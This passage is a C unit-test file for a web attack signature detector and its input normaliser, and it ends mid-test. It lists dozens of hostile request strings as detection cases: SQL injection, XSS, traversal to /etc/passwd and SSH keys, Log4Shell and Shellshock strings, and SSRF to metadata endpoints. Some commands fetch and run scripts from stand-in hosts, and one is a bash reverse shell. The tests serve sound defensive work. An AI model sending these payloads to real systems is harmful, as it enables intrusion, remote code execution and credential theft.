#include "normalise.h"
#include "websig.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *norm(const char *in, unsigned steps)
{
    static char out[1024];
    fk_normalise(in, strlen(in), steps, out, sizeof out);
    return out;
}

Test(normalise, url_decoding_repeated_and_unicode)
{
    cr_assert_str_eq(norm("%2e%2e%2fetc", FK_NORM_URL), "../etc");
    /* HTML's named references for ASCII; the newer ones only with their ';' */
    cr_assert_str_eq(norm("$&lbrace;jndi&colon;x&rcub; &LT;b&GT;", FK_NORM_HTML), "${jndi:x} <b>");
    cr_assert_str_eq(norm("&plusmn;5 &num &num;", FK_NORM_HTML), "&plusmn;5 &num #");
    cr_assert_str_eq(norm("%252e%252e%252f", FK_NORM_URL), "../", "double encoding");
    cr_assert_str_eq(norm("%25252e", FK_NORM_URL), ".", "triple encoding");
    cr_assert_str_eq(norm("%u002e%u002f", FK_NORM_URL), "./");
    cr_assert_str_eq(norm("%uFF1Cscript%uFF1E", FK_NORM_URL), "<script>", "full-width forms");
    cr_assert_str_eq(norm("%zz%4", FK_NORM_URL), "%zz%4", "invalid escapes stay");
}

Test(normalise, overlong_utf8_html_plus_nul_case)
{
    cr_assert_str_eq(norm("..\xc0\xaf..\xc0\xaf", FK_NORM_OVERLONG), "../../");
    cr_assert_str_eq(norm("%c0%ae%c0%ae/", FK_NORM_URL | FK_NORM_OVERLONG), "../");
    cr_assert_str_eq(norm("&lt;img src=x onerror&#61;alert&#x28;1)&gt;", FK_NORM_HTML),
                     "<img src=x onerror=alert(1)>");
    cr_assert_str_eq(norm("&#0000060;b&#62", FK_NORM_HTML), "<b>",
                     "padded and unterminated references");
    cr_assert_str_eq(norm("&#x24;&#000000000000000000000000123;jndi", FK_NORM_HTML), "${jndi",
                     "any number of leading zeros");
    cr_assert_str_eq(norm("&#99999999;", FK_NORM_HTML), "&#99999999;", "out of range: kept");
    cr_assert_str_eq(norm("a+b", FK_NORM_URL | FK_NORM_PLUS), "a b");
    cr_assert_str_eq(norm("a+b", FK_NORM_URL), "a+b", "'+' is literal in paths");
    cr_assert_str_eq(norm("a%00b", FK_NORM_URL | FK_NORM_NUL), "ab");
    cr_assert_str_eq(norm("SeLeCt", FK_NORM_LOWER), "select");
}

Test(normalise, access_log_escapes)
{
    cr_assert_str_eq(norm("a=\\\"x\\\\y\\x3c", FK_NORM_LOGESC), "a=\"x\\y<");
    cr_assert_str_eq(norm("\\x", FK_NORM_LOGESC), "\\x", "an incomplete escape stays");
}

Test(normalise, javascript_escapes)
{
    cr_assert_str_eq(norm("c\\u006fnsole", FK_NORM_JSESC), "console");
    cr_assert_str_eq(norm("\\u{3c}svg\\u{00003E}", FK_NORM_JSESC), "<svg>", "braced form");
    cr_assert_str_eq(norm("c%5Cu006fnsole", FK_NORM_URL | FK_NORM_JSESC), "console",
                     "after URL decoding");
    cr_assert_str_eq(norm("\\u00zz \\u{} \\u{110000}", FK_NORM_JSESC), "\\u00zz \\u{} \\u{110000}",
                     "invalid or out of range: kept");
    cr_assert_str_eq(norm("\\x41", FK_NORM_JSESC), "\\x41", "\\x stays for PHP signatures");
}

Test(normalise, path_and_sql_forms)
{
    cr_assert_str_eq(norm("/a//b/./c\\..\\d", FK_NORM_PATH), "/a/b/c/../d",
                     "'..' is kept for the signatures");
    cr_assert_str_eq(norm("1/**/UNION/*x*/SELECT", FK_NORM_LOWER | FK_NORM_SQL), "1 union select");
    cr_assert_str_eq(norm("a \t\n  b", FK_NORM_SQL), "a b");
    cr_assert_str_eq(norm("x' -- y", FK_NORM_SQL), "x' -- y");
    char big[8];
    cr_assert_eq(fk_normalise("abcdefghijkl", 12, FK_NORM_DEFAULT, big, sizeof big), 7,
                 "cut to the buffer");
}

typedef struct {
    char ids[1024];
    int n;
} hits;

static int collect(void *ctx, const fk_websig_hit *h)
{
    hits *c = ctx;
    c->n++;
    strncat(c->ids, h->family, sizeof c->ids - strlen(c->ids) - 1);
    strncat(c->ids, ":", sizeof c->ids - strlen(c->ids) - 1);
    strncat(c->ids, h->id, sizeof c->ids - strlen(c->ids) - 1);
    strncat(c->ids, " ", sizeof c->ids - strlen(c->ids) - 1);
    return 0;
}

static fk_websig_set *set;

static void load(void)
{
    fk_err err;
    cr_assert_eq(fk_websig_load_default(&set, NULL, getenv("FK_CACHE_DIR"), &err), 0, "%s",
                 err.msg);
}

static void unload(void)
{
    fk_websig_free(set);
}

TestSuite(websig, .init = load, .fini = unload);

static hits scan(const char *path, const char *query, const char *ua)
{
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = (fk_str){path, strlen(path)};
    if (query)
        ev.query = (fk_str){query, strlen(query)};
    if (ua)
        ev.user_agent = (fk_str){ua, strlen(ua)};
    hits h = {"", 0};
    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
    return h;
}

#define FIRES(family, path, query, ua)                                                             \
    do {                                                                                           \
        hits h_ = scan(path, query, ua);                                                           \
        cr_assert_not_null(strstr(h_.ids, family ":"), "%s not found for %s?%s [%s]: %s", family,  \
                           path, query ? query : "", ua ? ua : "", h_.ids);                        \
    } while (0)
#define QUIET(path, query, ua)                                                                     \
    do {                                                                                           \
        hits h_ = scan(path, query, ua);                                                           \
        cr_assert_eq(h_.n, 0, "false alarm on %s?%s [%s]: %s", path, query ? query : "",           \
                     ua ? ua : "", h_.ids);                                                        \
    } while (0)

Test(websig, the_shipped_set_compiles)
{
    cr_assert_gt(fk_websig_count(set), 40);
}

Test(websig, sql_injection)
{
    FIRES("sqli", "/item", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", NULL);
    FIRES("sqli", "/item", "id=1/**/UnIoN/**/SeLeCt/**/1,2", NULL);
    FIRES("sqli", "/login", "user=admin%27+or+%271%27%3D%271", NULL);
    FIRES("sqli", "/p", "id=5 AND 1=1", NULL);
    FIRES("sqli", "/p", "id=1;WAITFOR DELAY '0:0:5'", NULL);
    FIRES("sqli", "/p", "q=x%27%20AND%20SLEEP(5)--", NULL);
    FIRES("sqli", "/p", "id=1 and extractvalue(1,concat(0x7e,version()))", NULL);
    FIRES("sqli", "/p", "id=-1' order by 3--", NULL);
}

Test(websig, cross_site_scripting)
{
    FIRES("xss", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", NULL);
    FIRES("xss", "/search", "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", NULL);
    FIRES("xss", "/search", "q=&lt;svg/onload=prompt(1)&gt;", NULL);
    FIRES("xss", "/r", "next=JaVaScRiPt:alert(1)", NULL);
    FIRES("xss", "/r", "u=data:text/html;base64,PHNjcmlwdD4=", NULL);
}

Test(websig, traversal_inclusion_and_command_injection)
{
    FIRES("lfi", "/download", "file=..%2f..%2f..%2fetc%2fpasswd", NULL);
    FIRES("lfi", "/static/..%252f..%252fwindows/win.ini", NULL, NULL);
    FIRES("lfi", "/index.php", "page=php://filter/convert.base64-encode/resource=index", NULL);
    FIRES("lfi", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", NULL, NULL);
    FIRES("rfi", "/index.php", "page=http://198.51.100.9/shell.txt?", NULL);
    FIRES("rce", "/ping", "host=127.0.0.1;cat%20/etc/passwd", NULL);
    FIRES("rce", "/ping", "host=x|whoami", NULL);
    FIRES("rce", "/cgi", "a=$(curl%20http://x.example/s.sh|sh)", NULL);
    /* a command alone after a separator: only one that tells where the shell is; a
     * list of languages separated by ';' is a list */
    FIRES("rce", "/ping", "host=127.0.0.1;id", NULL);
    FIRES("rce", "/ping", "host=x;ls", NULL);
    QUIET("/posts", "tags=java;python;go;ruby", NULL);
    QUIET("/posts", "langs=php;perl", NULL);
}

Test(websig, code_injection_ssrf_and_tools)
{
    FIRES("code", "/", NULL, "${jndi:ldap://198.51.100.9/a}");
    FIRES("code", "/", "x=${${lower:j}ndi:${lower:l}dap://x.example/a}", NULL);
    FIRES("code", "/cgi-bin/status", NULL, "() { :; }; /bin/bash -c 'id'");
    FIRES("code", "/index.php", "c=<?php system($_GET['x']); ?>", NULL);
    FIRES("code", "/", "name={{7*7}}", NULL);
    FIRES("code", "/action", "x=%{(#_memberAccess['allowStaticMethodAccess']=true)}", NULL);
    FIRES("ssrf", "/fetch", "url=http://169.254.169.254/latest/meta-data/", NULL);
    FIRES("ssrf", "/fetch", "url=gopher://127.0.0.1:6379/_info", NULL);
    FIRES("scanner", "/", NULL, "Mozilla/5.0 (compatible; Nuclei - Open-source project)");
    FIRES("scanner", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", NULL, NULL);
    FIRES("sensitive", "/.env", NULL, NULL);
    FIRES("sensitive", "/.git/config", NULL, NULL);
    FIRES("sensitive", "/wp-config.php.bak", NULL, NULL);
    FIRES("sensitive", "/backup.sql.gz", NULL, NULL);
    FIRES("webshell", "/uploads/c99.php", NULL, NULL);
    FIRES("webshell", "/images/x.php", "cmd=whoami", NULL);
    FIRES("protocol", "/a%0d%0aSet-Cookie:%20x=1", NULL, NULL);
}

Test(websig, evasions_and_less_common_vectors)
{
    /* windows shell control flow, bash word splitting, /dev/tcp */
    FIRES("rce", "/run", "task=for+/f+%22tokens=1%22+%25%25x+in+(%27whoami%27)+do+echo+%25%25x",
          NULL);
    FIRES("rce", "/run", "arg=if+exist+c:%5Cboot.ini+echo+yes", NULL);
    FIRES("rce", "/run", "arg=if+[%251]==[]+goto+end", NULL);
    FIRES("rce", "/ping", "host=a;w$@h$@o$@ami", NULL);
    FIRES("rce", "/ping", "host=a;bash+-i+>%26+/dev/tcp/198.51.100.9/443+0>%261", NULL);
    FIRES("rce", "/", NULL, "dd if=/etc/shadow of=/tmp/x");
    /* PHP tags, indirect calls, variable variables */
    FIRES("code", "/", "tpl=%7Bphp%7Dphpinfo()%7B/php%7D", NULL);
    FIRES("code", "/", "x=(%27sys%27.%27tem%27)(%27id%27)", NULL);
    FIRES("code", "/", "x=(%22system%22)(%22id%22);", NULL);
    FIRES("code", "/", "v=${%27_GET%27}", NULL);
    /* node.js and prototype pollution */
    FIRES("code", "/api", "q=require(%27child_process%27).exec(%27id%27)", NULL);
    FIRES("code", "/api", "__proto__[isAdmin]=true", NULL);
    FIRES("code", "/api", "a[constructor][prototype][role]=admin", NULL);
    FIRES("code", "/inc", "page=data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B", NULL);
    /* SQL dialects */
    FIRES("sqli", "/p", "id=1::int", NULL);
    FIRES("sqli", "/p", "id=2%20%3C%3E%203", NULL);
    FIRES("sqli", "/p", "q=x%27;exec+xp_cmdshell+%27dir%27--", NULL);
    /* in a number's place (in a search box, q=, it is text:
     * commands_and_sql_in_free_text_need_a_break) */
    FIRES("sqli", "/p", "id=1)+like+(1", NULL);
    /* SSRF names, XML entities, backups, protocol */
    FIRES("ssrf", "/fetch", "url=http://kubernetes.default.svc.cluster.local/api", NULL);
    FIRES("ssrf", "/fetch", "url=http://metadata.packet.net/userdata", NULL);
    FIRES("xss", "/", "x=%3C!ENTITY+xxe+SYSTEM+%22file:///etc/passwd%22%3E", NULL);
    FIRES("sensitive", "/site/dump.rdb", NULL, NULL);
    FIRES("sensitive", "/wp-content/debug.log", NULL, NULL);
    FIRES("lfi", "/read", "f=/proc/self/environ", NULL);
    FIRES("lfi", "/read", "f=/home/u/.ssh/id_rsa", NULL);
    FIRES("protocol", "/", "x=GET+http://198.51.100.9/+HTTP/1.1", NULL);
    FIRES("protocol", "/api/item/3", "_method=DELETE", NULL);
    FIRES("rce", "/", "u=;certutil+-urlcache+-f+http://198.51.100.9/a.exe+a.exe", NULL);
    FIRES("rce", "/", "to=x%0d%0aRCPT%20TO:%3Cvictim@example.jp%3E", NULL);
    FIRES("rce", "/", "x=pi%60%60ng+198.51.100.9", NULL);
    FIRES("rce", "/", "x={,cat,/etc/hosts,}", NULL);
    FIRES("protocol", "/", "a=1&%0d%0aX-Forwarded-For:+127.0.0.1=1", NULL);
    FIRES("protocol", "/", "a=%01b", NULL);
    /* near misses that must stay quiet */
    QUIET("/contact", "msg=Hello.%0D%0AThe+shop+opens+at+ten.", NULL); /* textarea */
    QUIET("/p", "a=11!=11", NULL);
    QUIET("/search", "q=tea+or+coffee,+hot+or+cold", NULL);
    QUIET("/search", "q=drop+shipping+table;+prices", NULL); /* equal numbers: not a tautology */
    QUIET("/p", "v=3.2.1&build=2024", NULL);
    QUIET("/forum", "q=if+you+like+it", NULL);
    QUIET("/docs", "topic=format+for+printing", NULL);
    QUIET("/api/item/3", "_method=json", NULL);
    QUIET("/time", "t=12:30::45", NULL);
}

static int method_hits(const char *method)
{
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.method = (fk_str){method, strlen(method)};
    ev.path = FK_STR("/");
    hits h = {"", 0};
    cr_assert_geq(fk_websig_match_event(set, &ev, collect, &h), 0);
    return strstr(h.ids, "protocol:") ? 1 : 0;
}

Test(websig, methods_sessions_and_shell_fragments)
{
    cr_assert_eq(method_hits("TRACK"), 1);
    cr_assert_eq(method_hits("DEBUG"), 1);
    cr_assert_eq(method_hits("GET"), 0);
    cr_assert_eq(method_hits("delete"), 0);
    cr_assert_eq(method_hits("PROPFIND"), 0);
    FIRES("session", "/login.jsp", "JSESSIONID=0123456789ABCDEF0123", NULL);
    FIRES("session", "/", "q=<script>document.cookie=%22sid=1%22</script>", NULL);
    FIRES("rce", "/", "name=x%27);%0A.shell+id", NULL);
    FIRES("rce", "/", "host=a;who", NULL);
    FIRES("rce", "/", "h=x|ps+-ef", NULL);
    FIRES("code", "/cgi-bin/test.sh", "x=()%20{", NULL);
    FIRES("rfi", "/index.php", "page=http?", NULL);
    FIRES("sqli", "/api/OR%20%27%7B%22k%22:1%7D%27%20%3F%20%27k%27", NULL, NULL);
    FIRES("sqli", "/q", "f=%27$.user.role%27", NULL);
    FIRES("protocol", "/", "a[0]x=1", NULL);
    FIRES("xss", "/", "x=[].map.call%60%60", NULL);
    FIRES("code", "/", "x=base64_decode(", NULL);
    QUIET("/meta", "d=%3C%3Fxpacket%20begin=%22%3F%22%20id=%22w5%22%3F%3E", NULL); /* XMP */
    QUIET("/docs", "q=exec%20(", NULL);
    QUIET("/list", "a[0]=1&a[1]=2&m[k]=v", NULL);
    QUIET("/login", "sessionid=short", NULL);
    QUIET("/forum", "q=who+am+I;+a+poem", NULL);
}

Test(websig, wildcards_escapes_and_dialect_fragments)
{
    /* globbing and quoting that the shell undoes */
    FIRES("rce", "/dns", "name=example.jp;/usr/bin/he?d+/e*c/hostname", NULL);
    FIRES("rce", "/dns", "name=x;/\?\?\?/c\?t+/etc/hosts", NULL);
    FIRES("rce", "/", "t=wh%27%27oami+id", NULL); /* the word the shell reads is "whoami" */
    FIRES("rce", "/", "job=time+tar+-czf+x.tgz+/home", NULL);
    FIRES("rce", "/", "f=%27zcat+/var/log/auth.log.1.gz", NULL);
    FIRES("rce", "/", "x=$(hostname$IFS)", NULL);
    FIRES("rce", "/run", "c=if+%22%25OS%25%22==%22Windows_NT%22+echo+w", NULL);
    /* JavaScript escapes, string-built calls, comment-split calls */
    FIRES("code", "/", "t=%5Cu0070rocess.mainModule", NULL);
    FIRES("code", "/", "f=(ba.(se).64)(%27x%27)", NULL);
    FIRES("code", "/", "p=passthru+%23note%0a(%27ls%27)", NULL);
    FIRES("code", "/", "cb=file_get_contents(", NULL);
    /* SQL: arithmetic functions, JSON operators with ARRAY[], OLE DB providers */
    FIRES("sqli", "/item", "id=mod(17,+5)", NULL);
    FIRES("sqli", "/api", "f=%27%7B%7D%27+%3F%26+ARRAY%5B%27role%27%5D", NULL);
    FIRES("sqli", "/r", "src=%27SQLOLEDB%27", NULL);
    /* data: URIs with markup, dev-server file reads, backup names as values */
    FIRES("xss", "/", "u=data:,%3Cimg+src=x%3E", NULL);
    FIRES("lfi", "/@fs/srv/app/.env", NULL, NULL);
    FIRES("lfi", "/src/main.js", "raw??", NULL);
    FIRES("sensitive", "/dl", "name=site-2024.sql.gz", NULL);
    FIRES("protocol", "/", "sort[a]b[c]=1", NULL);
    /* what the new signatures must leave alone */
    QUIET("/calc", "expr=mod+of+17+and+5", NULL);
    QUIET("/search", "q=it%27%27s+fine", NULL);
    QUIET("/shop", "q=cat+food&c=echo+dot", NULL); /* search words, not commands */
    QUIET("/files/*/latest", NULL, NULL);
    QUIET("/docs", "file=report-2024.pdf", NULL);
    QUIET("/blog", "title=Executive+summary+(draft)+v2", NULL);
    /* a glob hides letters of a word, so a letter, a wildcard or another glob is beside
     * its brackets; a framework's route file names its parameter in brackets */
    FIRES("rce", "/x", "c=/bin/c%5Ba%5Dt+/etc/hosts", NULL);
    FIRES("rce", "/x", "c=/bin/%5Bc%5D%5Ba%5D%5Bt%5D+/etc/hosts", NULL);
    FIRES("rce", "/cgi-bin/%5Bc%5Dat", NULL, NULL);
    QUIET("/_next/static/chunks/pages/%5Bslug%5D-a81feef3fbc92d12.js", NULL, NULL);
    QUIET("/_next/static/chunks/app/blog/%5Bslug%5D/page-3f9a2b.js", NULL, NULL);
    QUIET("/_next/static/chunks/pages/%5B%5B...slug%5D%5D-ab12cd.js", NULL, NULL);
    /* wildcards spell a path in two components, beside letters or from the root; a
     * name whose letters a charset conversion turned into '?' is wildcards alone */
    FIRES("rce", "/cgi-bin/%3F%3F%3F/c%3Ft", NULL, NULL);
    FIRES("rce", "/x/%3F%3F%3F/%3F%3F%3F%3F", NULL, NULL);
    FIRES("rce", "/x", "f=/%3F%3F%3F/passwd", NULL);
    FIRES("rce", "/x/etc/pa%3F%3Fw%3F", NULL, NULL);
    QUIET("/blogger/6894/256/200/%3F%3F%3F%3F%3F%3F%20272.jpg", NULL, NULL);
    QUIET("/photos/2019/%3F%3F%3F%3F%3F.png", NULL, NULL);
}

Test(websig, ordinary_traffic_is_quiet)
{
    QUIET("/", NULL,
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0 Safari/537.36");
    QUIET("/search", "q=rock+and+roll&sort=date", NULL);
    QUIET("/search", "q=select+a+hotel+from+tokyo", NULL);
    QUIET("/news/2024/05/01/notice.html", "utm_source=newsletter&utm_medium=email", NULL);
    QUIET("/api/v1/items", "fields=id,name&order=desc&limit=20", NULL);
    QUIET("/img/logo.png", NULL, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)");
    QUIET("/products/detail", "id=123&color=red&size=m", NULL);
    QUIET("/docs/user-guide.pdf", NULL, NULL);
    QUIET("/login", "next=%2Fmypage%3Ftab%3Dorders", NULL);
    QUIET("/cart", "coupon=SPRING-2024&qty=2", NULL);
    QUIET("/comments", "text=I%27m+happy+it%27s+working", NULL);
    QUIET("/js/app.min.js", "v=3.2.1", NULL);
    QUIET("/search", "q=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97", NULL);
    /* sessions their own servers put in links: Engine.IO's polling, phpBB without cookies */
    QUIET("/socket.io/", "EIO=4&transport=polling&t=OjK3x2m&sid=PSCMZvXA3RoS2wIaXeyO", NULL);
    QUIET("/viewtopic.php", "f=2&t=123&sid=8f14e45fceea167a5a36dedd4bea2543", NULL);
    QUIET("/status.php", NULL, "Mozilla/5.0 (Windows) mirall/3.11.0"); /* Nextcloud's clients */
    /* mod_status's machine-readable page, which monitoring polls; the page a person reads
     * is what a scanner looks for */
    QUIET("/server-status", "auto", "Zabbix");
    /* a query language's expression (ArcGIS' where, JQL) is no tautology; a value that
     * appends one still is */
    QUIET("/arcgis/rest/services/Hazard/MapServer/0/query",
          "where=STATUS%3D%27OPEN%27+AND+TYPE%3D2&outFields=*&f=geojson", NULL);
    QUIET("/rest/api/2/search",
          "jql=text%20~%20%22password%20reset%22%20AND%20project%20%3D%20HELP", NULL);
    FIRES("sqli", "/item", "id=1+and+1%3D1", NULL);
    FIRES("sqli", "/item", "name=x%27+or+%27a%27%3D%27a", NULL);
    QUIET("/geoserver/wfs", "typeNames=city:shelters&CQL_FILTER=name%20LIKE%20%27%25school%25%27",
          NULL);
    FIRES("sqli", "/get", "var=something%20LIKE%20%27", NULL); /* a string left open */
    QUIET("/incident_list.do", "sysparm_query=assigned_to%3Djavascript:gs.getUserID()%5Estate!%3D6",
          NULL);
    FIRES("xss", "/go", "url=javascript:alert(1)", NULL);
    /* an API's JSON filter (Oracle REST Data Services' q=) is a query by design; the
     * operators that run JavaScript, and operators in a parameter's name, still count */
    QUIET("/ords/hr/employees/", "q=%7B%22salary%22:%7B%22$gt%22:5000%7D%7D", NULL);
    FIRES("sqli", "/login", "user%5B$ne%5D=x&password%5B$ne%5D=y", NULL);
    FIRES("sqli", "/api", "filter=%7B%22$where%22:%22this.a%3D%3D1%22%7D", NULL);
    /* Strapi's REST filtering: operators under a filters[...] root are its query language */
    QUIET("/api/articles", "filters%5Btitle%5D%5B$eq%5D=hello&filters%5Bviews%5D%5B$gt%5D=10",
          NULL);
    FIRES("sqli", "/api/articles", "filters%5Bbody%5D%5B$where%5D=sleep(5000)", NULL);
    /* $where as an unquoted key, spliced into a query built as a string */
    FIRES("sqli", "/search", "name=x%27,%20$where:%20%271%20==%201%27", NULL);
    QUIET("/shop", "note=$where%20we%20ship", NULL); /* a word after a '$', no key */
    /* a NAS's or a file manager's folders under /home; a user's dot-files still count */
    QUIET("/webapi/entry.cgi", "api=SYNO.FileStation.List&folder_path=%2Fhome%2Fbackup", NULL);
    FIRES("lfi", "/dl", "f=/home/tanaka/.ssh/id_rsa", NULL);
    /* an SSL-VPN's everyday pages; the exploits climb out of them */
    QUIET("/dana-na/auth/url_default/welcome.cgi", NULL, NULL);
    QUIET("/remote/fgt_lang", "lang=en", NULL);
    QUIET("/Citrix/StoreWeb/Resources/List", NULL, NULL);
    FIRES("scanner", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd", NULL,
          NULL);
    FIRES("lfi", "/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession", NULL);
    /* a rich-text editor's markup is what a person wrote, formatted */
    QUIET("/ckeditor/save",
          "editor1=%3Cp%3EThe+%3Ccode%3Eselect%3C%2Fcode%3E+element+and+%3Ca+href%3D%22..%2Fdocs%"
          "2Fforms.html%22%3Eforms%3C%2Fa%3E%3C%2Fp%3E",
          NULL);
    /* sentences are free text whatever the parameter is called */
    QUIET(
        "/api/v1/statuses",
        "status=could+you+share+the+output+of+%60uname+-a%60+and+%60docker+version%60%3F+%23linux",
        NULL);
    FIRES("rce", "/api/v1/statuses", "status=x%3Bcat+/etc/passwd%3B+echo+the+end+of+the+file.",
          NULL);
    FIRES("sensitive", "/server-status", NULL, NULL);
    FIRES("sensitive", "/server-status", "refresh=5", NULL);
    /* a page any site may call info.php, handed the application's own parameters, is
     * the site's; the probe asks for the name alone, with a cache-buster or PHP's logo */
    QUIET("/classic/info.php", "info=1191&amp;vez=r", NULL);
    QUIET("/test.php", "page=2&lang=en", NULL);
    FIRES("sensitive", "/info.php", NULL, NULL);
    FIRES("sensitive", "/wordpress/info.php", "1712345678", NULL);
    FIRES("sensitive", "/i.php", "=PHPE9568F34-D428-11d2-A769-00AA001ACF42", NULL);
    FIRES("sensitive", "/phpinfo.php", "page=2", NULL);
    /* the service traffic's classes (bench/service_traffic.py): Exchange's everyday
     * requests, and ProxyLogon's and ProxyShell's shapes */
    QUIET("/autodiscover/autodiscover.json",
          "Email=t.suzuki%40example.go.jp&Protocol=ActiveSync&RedirectCount=1", NULL);
    QUIET("/ecp/", "rfr=owa&p=PersonalSettings/Password.aspx", NULL);
    FIRES("scanner", "/ecp/y.js", NULL, NULL);
    FIRES("ssrf", "/autodiscover/autodiscover.json",
          "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", NULL);
    /* an image service fetches pictures by URL; an include parameter given one still counts */
    QUIET("/resize", "src=https%3A%2F%2Fcdn.example.go.jp%2Fimages%2Fhero.jpg&width=768", NULL);
    FIRES("rfi", "/index.php", "page=http://evil.example/shell.jpg", NULL);
    FIRES("rfi", "/resize", "src=http://evil.example/x.php", NULL);
    /* Nagios' command CGI in its own folder; a cmd.cgi anywhere else */
    QUIET("/cgi-bin/nagios4/cmd.cgi", "cmd_typ=34&host=web01&service=HTTP", NULL);
    QUIET("/nagios/cgi-bin/cmd.cgi", NULL, NULL);
    FIRES("webshell", "/cgi-bin/cmd.cgi", NULL, NULL);
    /* an application's own upload handler; the shells' names */
    QUIET("/wp-admin/upload.php", "mode=grid", NULL);
    FIRES("webshell", "/wp-content/uploads/2024/03/c99.php", NULL, NULL);
    /* a sign-in's destination on a developer's machine; a fetched one still counts */
    QUIET("/realms/members/protocol/openid-connect/auth",
          "response_type=code&client_id=spa&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&"
          "state=x",
          NULL);
    QUIET("/logout", "post_logout_redirect_uri=http://127.0.0.1:8080/", NULL);
    FIRES("ssrf", "/fetch", "url=http://localhost:8080/admin", NULL);
    FIRES("ssrf", "/login", "next=%2F&webhook=http://127.0.0.1:8080/", NULL);
    /* Jupyter's kernel channel carries the client's session id; a page's link does not */
    QUIET("/user/alice/api/kernels/a1b2/channels", "session_id=8f14e45fceea167a5a36dedd4bea2543",
          NULL);
    FIRES("session", "/index.php", "session_id=8f14e45fceea167a5a36dedd4bea2543", NULL);
    /* a search's groups, a dashboard's alternation, a mailbox item's base64 id */
    QUIET("/search", "query=%28TI%3D%22battery%22+OR+AB%3D%22battery%22%29+AND+PD%3E%3D20200101",
          NULL);
    FIRES("sqli", "/list", "where=%28a%3D1%29+or+%281%3D1", NULL);
    QUIET("/d/abc/ingest", "var-job=api%7Cworker&refresh=30s", NULL);
    FIRES("rce", "/d/abc/ingest", "var-job=api%7Cid", NULL);
    QUIET("/owa/",
          "ae=Item&t=IPM.Note&id=RgAAAAR6gqhsE2VOVhobdWDdJcN0ogCVSU94PXfdI6ZTYKtERhqypfXW5VOW%"
          "2FTrvq3IUQOJ7kx9J3rEV2swmpt",
          NULL);
}

Test(websig, family_selection_and_bad_sets)
{
    fk_websig_set *only;
    fk_err err;
    cr_assert_eq(fk_websig_load_default(&only, "xss", getenv("FK_CACHE_DIR"), &err), 0, "%s",
                 err.msg);
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = FK_STR("/p");
    ev.query = FK_STR("id=1 union select 1,2");
    hits h = {"", 0};
    cr_assert_eq(fk_websig_match_event(only, &ev, collect, &h), 0, "only XSS is loaded: %s", h.ids);
    fk_websig_free(only);
    cr_assert_eq(fk_websig_load_default(&only, "nosuchfamily", NULL, &err), -1);
    /* one good family must not hide a misspelt one */
    cr_assert_eq(fk_websig_load_default(&only, "xss,sqlx", NULL, &err), -1);
    cr_assert(strstr(err.msg, "'sqlx'") && strstr(err.msg, "sqli"), "%s", err.msg);
    const char bad[] = "signatures:\n  - id: x\n    family: f\n    pattern: '(a'\n";
    cr_assert_eq(fk_websig_load(&only, "bad.yml", bad, sizeof bad - 1, NULL, NULL, &err), -1);
    cr_assert_not_null(strstr(err.msg, "signature x"), "%s", err.msg);
    const char bad2[] =
        "signatures:\n  - id: y\n    family: f\n    pattern: a\n    fields: [cookie]\n";
    cr_assert_eq(fk_websig_load(&only, "bad.yml", bad2, sizeof bad2 - 1, NULL, NULL, &err), -1);
    cr_assert_not_null(strstr(err.msg, "bad.yml:5"), "%s", err.msg);
}

/* A cache file that is not a database of this Hyperscan (damaged, truncated, from another
 * version) is ignored and replaced; the set loaded beside it still matches. */
Test(websig, damaged_cache_files_are_recompiled)
{
    char dir[] = "/tmp/fk-websig-cache-XXXXXX";
    cr_assert_not_null(mkdtemp(dir));
    const char yml[] = "signatures:\n  - id: t1\n    family: xss\n    title: t\n"
                       "    pattern: '<script'\n    fields: [query]\n";
    fk_websig_set *a;
    fk_err err;
    cr_assert_eq(fk_websig_load(&a, "t.yml", yml, sizeof yml - 1, NULL, dir, &err), 0, "%s",
                 err.msg);
    fk_websig_free(a);
    char cmd[256];
    snprintf(cmd, sizeof cmd, "for f in %s/*.hs; do printf garbage > \"$f\"; done; ls %s | wc -l",
             dir, dir);
    FILE *p = popen(cmd, "r");
    int files = 0;
    cr_assert_eq(fscanf(p, "%d", &files), 1);
    pclose(p);
    cr_assert_geq(files, 1, "the first load wrote its database");
    cr_assert_eq(fk_websig_load(&a, "t.yml", yml, sizeof yml - 1, NULL, dir, &err), 0, "%s",
                 err.msg);
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = FK_STR("/p");
    ev.query = FK_STR("q=<script>alert(1)</script>");
    hits h = {"", 0};
    cr_assert_eq(fk_websig_match_event(a, &ev, collect, &h), 1, "%s", h.ids);
    fk_websig_free(a);
    snprintf(cmd, sizeof cmd, "rm -rf %s", dir);
    cr_assert_eq(system(cmd), 0);
}

/* A bare '%' is malformed (RFC 3986); escapes of two hex digits are not. A Referer is
 * another page's URL: its double encoding is not this request's (issue 12's real log). */
Test(websig, invalid_percent_encoding_and_referrers)
{
    FIRES("protocol", "/shop", "discount=50%", NULL);
    FIRES("protocol", "/a%zzb", NULL, NULL);
    QUIET("/shop", "q=%41%42&n=%e6%97%a5", NULL);
    fk_event ev;
    fk_event_clear(&ev);
    ev.kind = FK_KIND_WEB;
    ev.path = FK_STR("/blog/");
    ev.referrer = FK_STR("https://www.google.co.jp/url?sa=t&url=http%3A%2F%2Fwww.example.jp%2F%25E6"
                         "%2597%25A5%2F&usg=AFQjCNE");
    ev.user_agent = FK_STR("Mozilla/5.0 (X11; U; Linux arm; id) AppleWebKit/534.30");
    hits h = {"", 0};
